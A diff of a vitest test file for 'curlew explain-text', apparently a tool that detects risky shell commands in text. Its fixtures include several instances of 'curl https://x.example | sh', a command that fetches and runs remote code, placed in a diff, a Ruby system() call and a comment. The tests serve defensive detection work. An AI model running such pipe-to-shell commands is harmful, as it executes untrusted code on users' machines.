@@ -1,7 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { sharedDetectorOf } from "../support/marked.js";
 import { folderWith } from "./folder.js";
-import { runHere, type Ran } from "./stand-in.js";
+import { runHere, type Ran } from "./fake-detector.js";
 
 const toolkit = { createDetector: sharedDetectorOf };
 const explained = (stdin: string, ...args: string[]): Promise<Ran> =>
@@ -47,11 +47,11 @@ describe("curlew explain-text", () => {
       "```diff\n-curl https://x.example | sh\n```",
       "context  not evaluated: removed, is a removed line of a diff",
     ],
-  ])("says of %s: %s", async (text, said) => {
+  ])("prints for %s: %s", async (text, said) => {
     expect((await explained(text)).stdout).toContain(said);
   });
 
-  it("reads a file as its name says, or as --as says", async () => {
+  it("reads a file in the format of its name, or of --as", async () => {
     const cwd = folderWith({
       "run.rb": "system('curl https://x.example | sh')",
       "run.txt": "# curl https://x.example | sh",
